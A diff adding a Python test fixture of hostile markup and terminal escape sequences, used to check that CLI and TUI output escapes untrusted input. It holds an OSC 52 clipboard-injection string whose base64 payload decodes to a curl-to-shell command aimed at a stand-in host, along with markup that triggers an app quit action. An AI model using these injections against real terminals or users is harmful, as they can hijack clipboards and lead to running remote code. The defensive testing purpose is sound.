@@ -1,0 +1,39 @@
+"""A corpus of text that looks like markup or carries terminal control sequences.
+
+Shared by the CLI sweep and the TUI tests: every field a person can type gets one
+of these, and every output must show it as text, never obey it.
+"""
+
+from __future__ import annotations
+
+MARKUP = [
+    "[/bold]",
+    "[@click=app.quit]x[/]",
+    "[link=https://evil.example]click[/link]",
+    "pod [checkout-7f9]",
+]
+
+ESCAPES = {
+    "clear": "\x1b[2J\x1b[H",
+    "title": "\x1b]0;pwned\x07",
+    "osc52": "\x1b]52;c;Y3VybCBldmlsfHNo\x07",
+    "bell": "\x07",
+    "c1-csi": "\x9b31m",
+    "del": "x\x7fy",
+    "backspace": "ab\x08\x08",
+    "cr": "fine\roverwritten",
+}
+
+C1_BYTES = tuple(chr(code).encode("utf-8") for code in range(0x80, 0xA0))
+RAW_BYTES = (b"\x1b", b"\x07", b"\x00", b"\x7f", *C1_BYTES)
+"""What must never appear in any output: ESC, BEL, NUL, DEL and every C1 control."""
+
+
+def hostile(label: str) -> str:
+    """One field's worth of trouble: every markup trap and every escape, labelled."""
+    return f"{label} " + "".join(ESCAPES.values()) + " " + " ".join(MARKUP) + f" end-{label}"
+
+
+def raw_controls(data: bytes) -> list[bytes]:
+    """The forbidden sequences found in `data`."""
+    return [needle for needle in RAW_BYTES if needle in data]
